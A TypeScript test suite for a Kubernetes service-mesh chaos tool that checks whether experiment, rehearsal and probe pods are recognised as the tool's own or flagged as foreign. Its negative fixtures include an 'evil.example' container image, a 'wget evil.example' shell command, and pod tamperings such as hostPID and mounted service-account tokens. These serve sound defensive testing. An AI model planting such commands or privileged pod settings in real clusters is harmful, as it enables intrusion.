import { deepEqual, equal, ok } from "node:assert/strict";
import { judgeArea } from "#checks/closed/judge-objects.ts";
import { AREAS } from "#checks/closed/inventory.ts";
import { judgePods } from "#checks/closed/judge-pods.ts";
import { experimentObjects, experimentTimer } from "#live/chaos.ts";
import type { LiveObject } from "#live/kubernetes/objects.ts";
import { timerJob, timerReference } from "#live/kubernetes/timer.ts";
import { IDLE_COMMAND, LABEL, probePod, timerName } from "#live/probes/pod.ts";
import type { ProbePodOptions } from "#live/probes/pod.ts";
import { podsNote, REHEARSAL_LABEL, rehearsalObjects, rehearsed } from "#live/rehearsal/objects.ts";
import type { ChaosIntent } from "#model/chaos.ts";
import { CHAOS_KINDS, NEVER_ASSIGNED } from "#model/chaos.ts";
import { rehearsalName } from "#model/mesh.ts";
import { payment } from "#services/payment.ts";
import { intentOf } from "../../cli/chaos/intents.ts";
import type { Deployed } from "./cluster.ts";
import { deployed, objectOf, sceneWith } from "./cluster.ts";

const TERMS = { production: false, today: "2026-11-30" };

function strangers(mesh: Deployed, beside: readonly LiveObject[]): string[] {
    const scene = sceneWith(mesh, [...mesh.objects, ...beside]);
    return [
        ...AREAS.flatMap((area) => judgeArea(area, scene, TERMS).findings),
        ...judgePods(scene, TERMS).findings,
    ].map(({ object }) => `${object.kind} ${object.metadata.name}`);
}

/** As the API server has it. */
function live(object: object, uid: string): LiveObject {
    const copy = JSON.parse(JSON.stringify(object)) as LiveObject;
    return { ...copy, metadata: { ...copy.metadata, uid } };
}

describe("what mesh makes for a time", () => {
    let mesh: Deployed;
    let prod: Deployed;

    before(async function () {
        this.timeout(120_000);
        mesh = await deployed("local");
        prod = await deployed("prod");
    });

    function experiment(
        intent: ChaosIntent,
        timer = true,
    ): { readonly job: LiveObject; readonly objects: LiveObject[] } {
        const run = { intent, address: NEVER_ASSIGNED[0] };
        const { context } = mesh.mesh;
        const job = live(timerJob(experimentTimer(run, context, "what", 60)), "uid-of-the-timer");
        const owner = timerReference(timer ? job.metadata : { name: "x", uid: "another" });
        return {
            job,
            objects: experimentObjects(run, context, owner).map((object, index) =>
                live(object, `uid-${index}`),
            ),
        };
    }

    for (const kind of CHAOS_KINDS) {
        it(`is its own while mesh chaos does ${kind}`, () => {
            const { job, objects } = experiment(intentOf(kind));
            deepEqual(strangers(mesh, [job, ...objects]), []);
        });
    }

    it("is its own on a rehearsal as well", () => {
        const intent = intentOf("failing", { share: 50, delay: "2s" });
        const { job, objects } = experiment({ ...intent, service: rehearsed(intent.service) });
        deepEqual(strangers(mesh, [job, ...objects]), []);
    });

    it("is nobody's in production, where mesh chaos does nothing", () => {
        const { job, objects } = experiment(intentOf("isolate"));
        equal(strangers(prod, [job, ...objects]).length, 1);
    });

    it("is a stranger's with the label and no timer, another timer's, or another content", () => {
        const { job, objects } = experiment(intentOf("isolate"));
        const names = ["AuthorizationPolicy payment-service-isolated"];
        deepEqual(strangers(mesh, objects), names);
        deepEqual(strangers(mesh, [job, ...experiment(intentOf("isolate"), false).objects]), names);
        const altered = objects.map((object) => ({
            ...object,
            spec: { ...(object["spec"] as object), action: "ALLOW" },
        }));
        deepEqual(strangers(mesh, [job, ...altered]), names);
        const running = { ...job, spec: { ...(job["spec"] as object), parallelism: 1 } };
        deepEqual(strangers(mesh, [running, ...objects]), names);
        const unnoted = { ...job, metadata: { ...job.metadata, annotations: {} } };
        deepEqual(strangers(mesh, [unnoted, ...objects]), names);
    });

    it("is waited for where its timer is gone, and only there", () => {
        const endings = (objects: readonly LiveObject[]): unknown[] => {
            const scene = sceneWith(mesh, [...mesh.objects, ...objects]);
            return AREAS.flatMap((area) => judgeArea(area, scene, TERMS).findings).map(
                ({ ending }) => ending,
            );
        };
        const { job, objects } = experiment(intentOf("isolate"));
        deepEqual(endings(objects), [true]);
        const altered = objects.map((object) => ({ ...object, spec: { action: "ALLOW" } }));
        deepEqual(endings([job, ...altered]), [false]);
        const unowned = altered.map((object) => ({
            ...object,
            metadata: { ...object.metadata, ownerReferences: [] },
        }));
        deepEqual(endings(unowned), [false]);
    });

    it("is a stranger's where a timer's record calls for something else", () => {
        const { job } = experiment(intentOf("delay", { share: 1 }));
        const { objects } = experiment(intentOf("delay", { share: 100 }));
        deepEqual(strangers(mesh, [job, ...objects]), [
            "VirtualService payment-service-experiment",
        ]);
    });

    describe("as a rehearsal", () => {
        const groups = [
            { name: "healthy", replicas: 1 },
            { name: "failing", replicas: 1, env: { DEMO_FAULT: "status=503" } },
        ];

        function rehearsal(
            image: string,
            alter: (object: LiveObject) => LiveObject = (object) => object,
        ): LiveObject[] {
            const { catalog, context } = mesh.mesh;
            const name = rehearsalName(payment.name);
            const job = live(
                timerJob({
                    namespace: context.namespace,
                    name,
                    labels: { [REHEARSAL_LABEL]: name },
                    annotations: podsNote({ image, groups }),
                    seconds: 60,
                }),
                "uid-of-the-timer",
            );
            const objects = rehearsalObjects(
                { service: payment, catalog, context, image, groups, breaker: true },
                timerReference(job.metadata),
            ).map((object, index) => alter(live(object, `uid-${index}`)));
            const deployment = objects.find(({ kind }) => kind === "Deployment");
            const set = objectOf(
                "apps/v1:ReplicaSet",
                `${context.namespace}/set`,
                {},
                {
                    ownerReferences: [
                        { kind: "Deployment", uid: deployment?.metadata.uid, controller: true },
                    ],
                },
            );
            const pod = objectOf(
                "v1:Pod",
                `${context.namespace}/${name}-abc`,
                { spec: { serviceAccountName: payment.name, containers: [{ image }] } },
                {
                    labels: { app: name },
                    ownerReferences: [
                        { kind: "ReplicaSet", uid: set.metadata.uid, controller: true },
                    ],
                },
            );
            return [job, ...objects, set, pod];
        }

        it("is its own with its pods, which have the service's identity", () => {
            deepEqual(strangers(mesh, rehearsal(payment.image)), []);
        });

        it("is a stranger's with another image, or another container in its pods", () => {
            ok(
                strangers(mesh, rehearsal("evil.example/x:1")).includes(
                    "Pod payment-service-rehearsal-abc",
                ),
            );
            const extra = rehearsal(payment.image, (object) => {
                const copy = structuredClone(object) as LiveObject & {
                    spec: { template?: { spec: { containers: object[] } } };
                };
                copy.spec.template?.spec.containers.push({
                    name: "more",
                    image: "evil.example/x:1",
                });
                return copy;
            });
            // It has the identity, and is given the rehearsal's requests.
            const pod = "Pod payment-service-rehearsal-abc";
            deepEqual(strangers(mesh, extra), [pod, pod]);
        });
    });

    describe("as a probe's pod", () => {
        const session = "abc123";

        function probe(
            options: Partial<ProbePodOptions> = {},
            alter: (pod: LiveObject) => LiveObject = (pod) => pod,
        ): LiveObject[] {
            const { namespace } = mesh.mesh.context;
            const job = live(
                timerJob({
                    namespace,
                    name: timerName(session),
                    labels: { [LABEL]: session },
                    seconds: 60,
                }),
                "uid-of-the-timer",
            );
            const pod = probePod(
                `${timerName(session)}-payment-service`,
                {
                    name: "payment-service",
                    namespace,
                    serviceAccount: "payment-service",
                    ...options,
                },
                {
                    image: "node:20",
                    labels: { [LABEL]: session },
                    lifetimeSeconds: 60,
                    owner: timerReference(job.metadata),
                },
            );
            const { metadata, spec } = pod;
            const made = live({ apiVersion: "v1", kind: "Pod", metadata, spec }, "uid-of-the-pod");
            const placed = { ...made, metadata: { ...made.metadata, namespace } };
            return [job, alter(placed)];
        }
        const withPart =
            (fields: object) =>
            (pod: LiveObject): LiveObject => ({
                ...pod,
                spec: { ...(pod["spec"] as object), ...fields },
            });

        it("is its own, whatever keeps it alive", () => {
            deepEqual(strangers(mesh, probe()), []);
            deepEqual(strangers(mesh, probe({ serve: 8099 })), []);
            const idle = { image: "k6:1", command: IDLE_COMMAND };
            deepEqual(strangers(mesh, probe({ idle })), []);
        });

        it("is a stranger's with anything beside, or without its timer", () => {
            const names = ["Pod mesh-probe-abc123-payment-service"];
            const [, alone] = probe();
            deepEqual(strangers(mesh, [alone as LiveObject]), names);
            const command = ["sh", "-c", "wget evil.example"];
            deepEqual(strangers(mesh, probe({ idle: { image: "x:1", command } })), names);
            for (const part of [
                { hostPID: true },
                { ephemeralContainers: [{ name: "debug", image: "x:1" }] },
                { initContainers: [{ name: "first", image: "x:1" }] },
                { automountServiceAccountToken: true },
            ]) {
                deepEqual(strangers(mesh, probe({}, withPart(part))), names, JSON.stringify(part));
            }
            const more = (pod: LiveObject): LiveObject => {
                const { containers } = pod["spec"] as { readonly containers: readonly object[] };
                return withPart({ containers: [...containers, { name: "more", image: "x:1" }] })(
                    pod,
                );
            };
            deepEqual(strangers(mesh, probe({}, more)), names);
        });
    });
});
